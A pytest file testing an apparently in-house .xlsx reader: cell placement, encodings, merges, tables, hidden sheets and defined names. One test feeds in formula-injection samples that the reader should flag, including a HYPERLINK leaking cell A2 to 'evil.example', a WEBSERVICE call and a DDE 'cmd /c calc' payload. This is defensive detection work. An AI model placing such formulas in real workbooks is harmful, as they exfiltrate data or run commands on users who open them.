"""Where the cells of an .xlsx sheet lie, and what the file tells about the sheet beside its cells."""

import zipfile
from pathlib import Path

import pytest

from shopbook.errors import TabNotFoundError, UnreadableFileError
from shopbook.host.gate import admit
from shopbook.host.reading import list_tabs, read_grids
from shopbook.host.reading.container import Visibility
from shopbook.sheet.grid import CellType, TableRef
from tests.host.reading.workbooks import LINKS, MAIN, SHEET_PART, STRICT, book, cell, links, pack, parts, read, row, worksheet

NUMBER = CellType.NUMBER
A1 = '<c r="A1"><v>1</v></c>'


def test_leading_blank_rows_and_columns_keep_their_place(tmp_path: Path) -> None:
    grid = read(book(tmp_path, '<row r="3"><c r="C3"><v>5</v></c></row>'))

    assert (grid.first_row, grid.text.columns, cell(grid, "C3")) == (3, ["A", "B", "C"], ("5", NUMBER))


def test_rows_that_the_file_leaves_out_are_blank_rows_of_the_grid(tmp_path: Path) -> None:
    grid = read(book(tmp_path, row(1, '<c r="A@"><v>1</v></c>') + row(4, '<c r="A@"><v>4</v></c>')))

    assert grid.text["A"].to_list() == ["1", None, None, "4"]
    assert grid.types["A"].to_list() == [1, 0, 0, 1]


def test_blank_rows_at_the_end_do_not_count_however_many(tmp_path: Path) -> None:
    styled = "".join(row(number, '<c r="A@" s="1"/>', '<c r="B@" t="str"><f>""</f><v></v></c>') for number in range(2, 5001))

    assert read(book(tmp_path, row(1, '<c r="A@"><v>1</v></c>') + styled)).text.height == 1


def test_a_formula_that_was_never_calculated_is_no_blank_row(tmp_path: Path) -> None:
    grid = read(book(tmp_path, row(1, '<c r="A@"><v>1</v></c>') + row(2, '<c r="A@"><f>1+1</f></c>')))

    assert cell(grid, "A2") == (None, CellType.UNCALCULATED)


def test_an_empty_sheet_is_an_empty_grid(tmp_path: Path) -> None:
    grid = read(book(tmp_path, ""))

    assert (grid.text.height, grid.types.width, grid.first_row) == (0, 0, 1)


@pytest.mark.parametrize(
    "rows", [row(1, '<c r="A@"><v>1</v></c>', '<c r="XFD@"><v>2</v></c>') + row(1_048_576, '<c r="XFD@"><v>9</v></c>')]
)
def test_a_stray_cell_in_the_last_corner_costs_little(tmp_path: Path, rows: str) -> None:
    grid = read(book(tmp_path, rows))

    assert (grid.text.height, grid.text.width) == (1_048_576, 16_384)
    assert cell(grid, "XFD1048576") == ("9", NUMBER)
    assert grid.text["B"].null_count() == 1_048_576


def test_cells_spread_over_more_columns_than_any_frame_holds_are_refused_with_their_extent(tmp_path: Path) -> None:
    letters = [chr(65 + first) + chr(65 + second) for first in range(6) for second in range(26)]
    first = "".join(f'<c r="{letter}1"><v>1</v></c>' for letter in letters)

    with pytest.raises(UnreadableFileError, match="1048576 rows with 157 filled columns"):
        read(book(tmp_path, row(1, first) + row(1_048_576, '<c r="A@"><v>1</v></c>')))


@pytest.mark.parametrize(
    ("rows", "named"),
    [
        ('<row r="4294967295"><c r="A4294967295"><v>9</v></c></row>', "4294967295"),
        ('<row r="0"><c r="A0"><v>9</v></c></row>', "0"),
        ('<row r="1"><c r="XFE1"><v>9</v></c></row>', "XFE1"),
        ('<row r="1"><c r="a1"><v>9</v></c></row>', "a1"),
    ],
)
def test_a_cell_where_no_sheet_has_one_is_refused_by_its_name(tmp_path: Path, rows: str, named: str) -> None:
    with pytest.raises(UnreadableFileError, match=f"sheet '订单' .*{named}"):
        read(book(tmp_path, rows))


def test_a_sheet_with_more_rows_than_a_sheet_can_have_is_refused(tmp_path: Path) -> None:
    path = pack(tmp_path / "a.xlsx", parts("<row/>" * 1_048_577), zipfile.ZIP_STORED)

    with pytest.raises(UnreadableFileError, match="1048577"):
        read(path)


def test_rows_out_of_order_are_sorted_and_the_later_of_two_cells_counts(tmp_path: Path) -> None:
    rows = row(2, '<c r="A@"><v>2</v></c>') + row(1, '<c r="B@"><v>1</v></c>', '<c r="A@"><v>0</v></c>') + row(2, '<c r="A@"><v>99</v></c>')

    grid = read(book(tmp_path, rows))

    assert (grid.text["A"].to_list(), grid.text["B"].to_list()) == (["0", "99"], ["1", None])


@pytest.mark.parametrize(
    "rows",
    [
        "<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>",
        '<row r="1"><c><v>1</v></c><c><v>2</v></c></row><row r="2"><c><v>3</v></c></row>',
        '<row><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row><row><c><v>3</v></c></row>',
        '<row spans="1:2" r="1"><c s="0" r="A1"><v>1</v></c><c r="B1" t="n"><v>2</v></c></row><row r="2"><c r="A2"><v>3</v></c></row>',
        "<row r='1'><c r='A1'><v>1</v></c><c r='B1'><v>2</v></c></row><row r='2'><c r='A2'><v>3</v></c></row>",
        '<!-- x --><row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row><row r="2"><c r="A2"><v>3</v></c></row>',
    ],
)
def test_unusual_but_valid_xml_reads_the_same(tmp_path: Path, rows: str) -> None:
    grid = read(book(tmp_path, rows))

    assert grid.text.rows() == [("1", "2"), ("3", None)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
def test_a_sheet_in_any_unicode_encoding_reads_the_same(tmp_path: Path, encoding: str) -> None:
    xml = worksheet(row(1, '<c r="A@" t="inlineStr"><is><t>订单</t></is></c>')).replace(
        'version="1.0"', 'version="1.0" encoding="' + encoding[:6] + '"'
    )
    members = parts() | {SHEET_PART: xml.replace("utf-16", "UTF-16").encode(encoding)}

    assert read(pack(tmp_path / "a.xlsx", members)).text.rows() == [("订单",)]


def test_prefixed_names_read_the_same(tmp_path: Path) -> None:
    xml = (
        f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row></x:sheetData>'
        '<x:mergeCells><x:mergeCell ref="A1:B1"/></x:mergeCells></x:worksheet>'
    )
    grid = read(pack(tmp_path / "a.xlsx", parts() | {SHEET_PART: xml}))

    assert (grid.text.rows(), grid.merges) == ([("1",)], ("A1:B1",))


def test_strict_files_read_the_same(tmp_path: Path) -> None:
    members = {
        name: body.replace(MAIN, STRICT).replace(LINKS, "http://purl.oclc.org/ooxml/officeDocument/relationships")
        for name, body in parts(row(1, '<c r="A@" t="s"><v>0</v></c>'), shared="<si><t>甲</t></si>").items()
        if isinstance(body, str)
    }

    assert read(pack(tmp_path / "a.xlsx", members)).text.rows() == [("甲",)]


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", "A1", "A0:ZZZZ99999999"])
def test_what_the_dimension_claims_is_ignored(tmp_path: Path, dimension: str) -> None:
    xml = worksheet(row(1, A1)).replace("<sheetData>", f'<dimension ref="{dimension}"/><sheetData>')

    assert read(pack(tmp_path / "a.xlsx", parts() | {SHEET_PART: xml})).text.rows() == [("1",)]


def test_hidden_and_filtered_rows_are_counted_and_read_all_the_same(tmp_path: Path) -> None:
    rows = row(1, A1) + '<row r="2" hidden="1"><c r="A2"><v>2</v></c></row>' + '<row hidden="true" r="3"><c r="A3"><v>3</v></c></row>'

    grid = read(book(tmp_path, rows))

    assert (grid.hidden_rows, grid.text["A"].to_list()) == (2, ["1", "2", "3"])


def test_merges_are_kept_as_written_and_the_values_under_them_too(tmp_path: Path) -> None:
    rows = row(1, '<c r="A@"><v>1</v></c>', '<c r="B@"><v>2</v></c>')
    after = '<mergeCells count="3"><mergeCell ref="A1:B1"/><mergeCell ref="C1:C1048576"/><mergeCell ref="A1:C3"/></mergeCells>'

    grid = read(book(tmp_path, rows, after=after))

    assert (grid.merges, grid.text.rows()) == (("A1:B1", "C1:C1048576", "A1:C3"), [("1", "2")])


def test_fifty_thousand_merges_are_no_reason_to_refuse(tmp_path: Path) -> None:
    after = "<mergeCells>" + "".join(f'<mergeCell ref="D{number}:E{number}"/>' for number in range(1, 50_001)) + "</mergeCells>"

    assert len(read(book(tmp_path, row(1, A1), after=after)).merges) == 50_000


def test_tables_are_named_with_their_corners(tmp_path: Path) -> None:
    members = parts(row(1, A1), after='<tableParts count="1"><tablePart r:id="rId1" xmlns:r="x"/></tableParts>') | {
        "xl/worksheets/_rels/sheet1.xml.rels": links(("rId1", "table", "../tables/table1.xml")),
        "xl/tables/table1.xml": f'<table xmlns="{MAIN}" id="1" name="t" displayName="订单表" ref="B2:D9"/>',
    }

    assert read(pack(tmp_path / "a.xlsx", members)).tables == (TableRef("订单表", 2, 2, 9, 4),)


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("http://evil.example/?x="&amp;A2,"click")',
        'hyperlink(A2,"x")',
        '_xlfn.WEBSERVICE("http://127.0.0.1/"&amp;A2)',
        "cmd|'/c calc'!A0",
        "[1]Sheet1!A1+1",
        "'[2]表 1'!B2",
        '_xlfn.IMAGE("http://127.0.0.1/x.png")',
    ],
)
def test_a_formula_that_reaches_outside_is_named_with_its_cell(tmp_path: Path, formula: str) -> None:
    grid = read(book(tmp_path, row(7, f'<c r="B@" t="str"><f>{formula}</f><v>x</v></c>')))

    assert grid.outside == {"B7": formula.replace("&amp;", "&")}


@pytest.mark.parametrize(
    "formula", ["SUM(A1:A9)", "表1[数量]*2", "表1[[#This Row],[2023]]", 'HYPERLINK("#订单!A1","A1")', 'A1&amp;"|"&amp;Sheet2!B1', '"[1]"']
)
def test_a_formula_that_stays_inside_is_not_named(tmp_path: Path, formula: str) -> None:
    assert read(book(tmp_path, row(1, f'<c r="A@"><f>{formula}</f><v>1</v></c>'))).outside == {}


def two_sheets(folder: Path) -> Path:
    members = parts(row(1, A1)) | {
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets><sheet name="订单" sheetId="1" r:id="rId1"/>'
            '<sheet name="底稿" sheetId="2" state="veryHidden" r:id="rId4"/></sheets>'
            "<definedNames><definedName name=\"费率\">'订单'!$A$1</definedName></definedNames></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": links(
            ("rId1", "worksheet", "/xl/worksheets/sheet1.xml"), ("rId4", "worksheet", "worksheets/Sheet%202.xml")
        ),
        "xl/worksheets/Sheet 2.xml": worksheet(row(1, '<c r="A1"><v>2</v></c>')),
    }
    return pack(folder / "two.xlsx", members)


def test_sheets_are_listed_with_their_visibility_without_reading_cells(tmp_path: Path) -> None:
    tabs = list_tabs(admit(two_sheets(tmp_path)))

    assert [(tab.name, tab.visibility) for tab in tabs] == [("订单", Visibility.VISIBLE), ("底稿", Visibility.VERY_HIDDEN)]


def test_sheets_are_read_in_the_order_asked_for(tmp_path: Path) -> None:
    grids = read_grids(admit(two_sheets(tmp_path)), ["底稿", "订单"])

    assert [(grid.tab, grid.text["A"].to_list()) for grid in grids] == [("底稿", ["2"]), ("订单", ["1"])]


def test_a_sheet_that_is_not_there_is_named_with_those_that_are(tmp_path: Path) -> None:
    with pytest.raises(TabNotFoundError) as caught:
        read_grids(admit(two_sheets(tmp_path)), ["商品"])

    assert (caught.value.tab, caught.value.present) == ("商品", ("订单", "底稿"))


def test_defined_names_are_handed_over(tmp_path: Path) -> None:
    assert admit(two_sheets(tmp_path)).names == {"费率": "'订单'!$A$1"}
